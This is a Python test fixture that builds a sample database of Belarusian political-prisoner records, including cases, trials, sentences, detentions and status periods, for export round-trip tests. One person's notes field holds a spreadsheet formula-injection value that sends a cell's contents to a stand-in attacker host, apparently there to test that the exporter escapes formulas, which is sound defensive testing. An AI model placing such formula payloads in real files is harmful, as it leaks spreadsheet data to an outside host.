"""A small hand-made vault that uses every field the template carries, for round-trip tests.

Built through the ORM (the flush hook writes the change feed), independent of the demo
generator, and deliberately awkward: partial dates, an unknown start, a formula-looking note,
co-defendants, an Art. 411 extension, a case-less custody period, a trial-less sentence, several
status periods of one kind, a tombstoned person that must not be exported.
"""

from __future__ import annotations

from datetime import date
from typing import Any

from app.domain.enums import (
    CaseKind,
    CaseStatus,
    EventType,
    Gender,
    NameScript,
    PlaceKind,
    PublicationLevel,
    Regime,
    RelationType,
    ReleaseReason,
    Reliability,
    SentenceType,
    StatusKind,
)
from app.domain.partial_dates import PartialDate
from app.models import (
    Case,
    Charge,
    Detention,
    Judge,
    Person,
    PersonName,
    Relation,
    RepressionEvent,
    Sentence,
    Source,
    SourceLink,
    StatusPeriod,
    Trial,
)
from app.services.derived import refresh_derived


def _person(session: Any, names: list[tuple[str, NameScript]], **fields: Any) -> Person:
    person = Person(display_name=names[0][0], **fields)
    session.add(person)
    session.flush()
    for index, (text, script) in enumerate(names):
        session.add(
            PersonName(person_id=person.id, full_name=text, script=script, is_primary=index == 0)
        )
    return person


def build_rich_vault(vault: Any) -> dict[str, str]:
    """Fill ``vault``; returns the ids of the persons, by nickname."""
    be, ru, latin = NameScript.BE_CYRILLIC, NameScript.RU_CYRILLIC, NameScript.LATIN
    with vault.session() as s, s.begin():
        spring = Source(
            url="https://spring96.org/be/news/100",
            publication="Вясна",
            published_on=date(2021, 7, 6),
            reliability=Reliability.CONFIRMED,
        )
        paper = Source(publication="Наша Ніва, друкаванае выданне")
        s.add_all([spring, paper])
        judge = Judge(full_name="Ігар Любавіцкі", court_code="minsk_city_court")
        district = Judge(full_name="Алена Шылько", court_code="minsk_leninski")
        s.add_all([judge, district])
        s.flush()

        viktar = _person(
            s,
            [
                ("Бабарыка Віктар Дзмітрыевіч", be),
                ("Бабарико Виктор Дмитриевич", ru),
                ("Viktar Babaryka", latin),
                ("Viktor Babariko", latin),
            ],
            gender=Gender.MALE,
            birth_date=PartialDate(1963, 11, 28),
            region_code="minsk_city",
            city="Мінск",
            occupation="банкір",
            categories=",politician,",
            health_concerns="хвароба сэрца",
            notes='=HYPERLINK("http://evil.example/?"&A2, "click"); then -1 and @SUM',
        )
        eduard = _person(
            s,
            [("Бабарыка Эдуард Віктаравіч", be)],
            gender=Gender.MALE,
            birth_date=PartialDate(1989),
            region_code="minsk_city",
            publication=PublicationLevel.PUBLISH,
        )
        marfa = _person(
            s,
            [("Рабкова Марфа", ru), ("Marfa Rabkova", latin)],
            gender=Gender.FEMALE,
            birth_date=PartialDate(1995, 4),
            region_code="homiel",
            categories=",human_rights_defender,parent_of_many_children,",
            publication=PublicationLevel.ANONYMISE,
            notes="+375 29 000 00 00\nsecond line",
        )
        listed = _person(
            s,
            [("Ala Los", latin)],
            gender=Gender.OTHER,
            publication=PublicationLevel.NEVER,
            occupation="'=quoted already",
        )
        gone = _person(s, [("Выдалены Чалавек", be)])
        gone.deleted = True

        s.add(
            Relation(
                person_id=eduard.id, other_person_id=viktar.id, relation_type=RelationType.PARENT
            )
        )
        s.add(
            Relation(
                person_id=marfa.id, other_person_id=listed.id, relation_type=RelationType.OTHER
            )
        )

        # Co-defendants in one case, one trial.
        main = Case(
            kind=CaseKind.CRIMINAL,
            number="20123456789",
            opened_on=PartialDate(2020, 6),
            investigating_body="КДБ",
            status=CaseStatus.CONVICTED,
            notes="the Belgazprombank case",
        )
        s.add(main)
        s.flush()
        s.add_all(
            [
                Charge(case_id=main.id, person_id=viktar.id, article_key="CC 243"),
                Charge(case_id=main.id, person_id=viktar.id, article_key="CC 342 p1"),
                Charge(case_id=main.id, person_id=eduard.id, article_key="CC 342 p2"),
                SourceLink(source_id=spring.id, entity="case", entity_id=main.id),
                SourceLink(source_id=spring.id, entity="person", entity_id=viktar.id),
                SourceLink(source_id=paper.id, entity="person", entity_id=viktar.id),
            ]
        )
        trial = Trial(
            case_id=main.id,
            court_code="minsk_city_court",
            judge_id=judge.id,
            started_on=date(2021, 2, 17),
            verdict_on=date(2021, 7, 6),
            closed_hearing=True,
            appeal_on=date(2021, 12, 14),
            appeal_outcome="прысуд пакінуты без змен",
            notes="closed after day one",
        )
        s.add(trial)
        s.flush()
        base = Sentence(
            person_id=viktar.id,
            trial_id=trial.id,
            sentence_type=SentenceType.IMPRISONMENT,
            term_years=14,
            regime=Regime.STRICT,
            fine_amount=4000,
            starts_on=date(2020, 6, 18),
            expected_release=date(2035, 6, 18),
            notes="plus a fine",
        )
        eduard_sentence = Sentence(
            person_id=eduard.id,
            trial_id=trial.id,
            sentence_type=SentenceType.IMPRISONMENT,
            term_years=8,
            regime=Regime.GENERAL,
            starts_on=date(2020, 6, 18),
            credited_days=3,
            expected_release=date(2028, 6, 15),
        )
        s.add_all([base, eduard_sentence])
        s.add_all(
            [
                Detention(
                    person_id=viktar.id,
                    case_id=main.id,
                    detained_on=PartialDate(2020, 6, 18),
                    place_kind=PlaceKind.PRE_TRIAL_CENTRE,
                    place_name="СІЗА КДБ",
                    released_on=date(2021, 9, 1),
                    release_reason=ReleaseReason.OTHER,
                    notes="moved to the colony",
                ),
                Detention(
                    person_id=viktar.id,
                    case_id=main.id,
                    detained_on=PartialDate(2021, 9),
                    place_kind=PlaceKind.COLONY,
                    place_name="Калонія № 1, Наваполацк",
                ),
                Detention(
                    person_id=eduard.id,
                    case_id=main.id,
                    detained_on=PartialDate(2020, 6, 18),
                    place_kind=PlaceKind.COLONY,
                ),
            ]
        )
        s.flush()
        # An Art. 411 extension in a case of its own.
        extension_case = Case(kind=CaseKind.CRIMINAL, status=CaseStatus.CONVICTED)
        s.add(extension_case)
        s.flush()
        s.add(Charge(case_id=extension_case.id, person_id=viktar.id, article_key="CC 411 p2"))
        extension_trial = Trial(
            case_id=extension_case.id,
            court_code="minsk_leninski",
            judge_id=district.id,
            verdict_on=date(2024, 3, 1),
            in_absentia=True,
            special_proceedings=True,
        )
        s.add(extension_trial)
        s.flush()
        s.add(
            Sentence(
                person_id=viktar.id,
                trial_id=extension_trial.id,
                sentence_type=SentenceType.IMPRISONMENT,
                term_years=1,
                term_months=6,
                regime=Regime.STRICT,
                extends_sentence_id=base.id,
                expected_release=date(2036, 12, 18),
            )
        )
        # Marfa: an administrative case with an arrest, a case-less detention, a trial-less
        # restricted-freedom sentence, statuses and events.
        admin = Case(
            kind=CaseKind.ADMINISTRATIVE, opened_on=PartialDate(2020), status=CaseStatus.CLOSED
        )
        s.add(admin)
        s.flush()
        s.add(Charge(case_id=admin.id, person_id=marfa.id, article_key="CAO 24.23 p1"))
        s.add(
            Sentence(
                person_id=marfa.id,
                sentence_type=SentenceType.RESTRICTED_FREEDOM_OPEN,
                term_years=2,
                starts_on=date(2023, 1, 10),
                credited_days=40,
                expected_release=date(2024, 12, 1),
            )
        )
        s.add(
            Sentence(
                person_id=marfa.id,
                sentence_type=SentenceType.ARREST,
                term_days=15,
            )
        )
        s.add_all(
            [
                Detention(
                    person_id=marfa.id,
                    detained_on=PartialDate(2020, 9, 17),
                    released_on=date(2020, 10, 2),
                    release_reason=ReleaseReason.SERVED,
                ),
                Detention(person_id=marfa.id, case_id=admin.id, detained_on=PartialDate(2020)),
                StatusPeriod(
                    person_id=marfa.id,
                    kind=StatusKind.POLITICAL_PRISONER,
                    starts_on=PartialDate(2020, 9, 20),
                    ends_on=date(2024, 12, 1),
                ),
                StatusPeriod(
                    person_id=marfa.id,
                    kind=StatusKind.SHIZO,
                    starts_on=PartialDate(2022, 1, 1),
                    ends_on=date(2022, 1, 11),
                ),
                StatusPeriod(
                    person_id=marfa.id,
                    kind=StatusKind.SHIZO,
                    starts_on=PartialDate(2022, 1, 11),
                    ends_on=date(2022, 1, 21),
                ),
                StatusPeriod(
                    person_id=marfa.id,
                    kind=StatusKind.SHIZO,
                    starts_on=PartialDate(2022, 3),
                    ends_on=date(2022, 3, 20),
                ),
                StatusPeriod(person_id=marfa.id, kind=StatusKind.INCOMMUNICADO, starts_on=None),
                StatusPeriod(
                    person_id=viktar.id,
                    kind=StatusKind.INCOMMUNICADO,
                    starts_on=PartialDate(2023, 2),
                ),
                StatusPeriod(
                    person_id=viktar.id,
                    kind=StatusKind.EXTREMIST_LIST,
                    starts_on=PartialDate(2021, 10, 5),
                ),
                StatusPeriod(
                    person_id=viktar.id,
                    kind=StatusKind.PKT,
                    starts_on=PartialDate(2023, 1, 5),
                    ends_on=date(2023, 4, 5),
                ),
                StatusPeriod(
                    person_id=listed.id,
                    kind=StatusKind.TERRORIST_LIST,
                    starts_on=PartialDate(2022, 5, 1),
                    ends_on=date(2024, 1, 1),
                ),
                StatusPeriod(
                    person_id=listed.id,
                    kind=StatusKind.SERIOUS_ILLNESS,
                    starts_on=None,
                    ends_on=date(2023, 1, 1),
                ),
                StatusPeriod(
                    person_id=listed.id, kind=StatusKind.PRISON_REGIME, starts_on=PartialDate(2022)
                ),
                RepressionEvent(
                    person_id=marfa.id,
                    event_type=EventType.SEARCH,
                    occurred_on=PartialDate(2020, 9, 17),
                    place="Гомель",
                    responsible_body="ГУБАЗіК",
                    description="search of the flat",
                    source_id=spring.id,
                ),
                RepressionEvent(
                    person_id=marfa.id,
                    event_type=EventType.INTERROGATION,
                    occurred_on=PartialDate(2021),
                ),
                RepressionEvent(
                    person_id=marfa.id,
                    event_type=EventType.INTERROGATION,
                    occurred_on=PartialDate(2021),
                    description="second time",
                ),
                RepressionEvent(
                    person_id=listed.id,
                    event_type=EventType.FORCED_EXILE,
                    occurred_on=PartialDate(2021, 8),
                    source_id=paper.id,
                ),
            ]
        )
        s.flush()
        refresh_derived(s.connection())
    return {"viktar": viktar.id, "eduard": eduard.id, "marfa": marfa.id, "listed": listed.id}
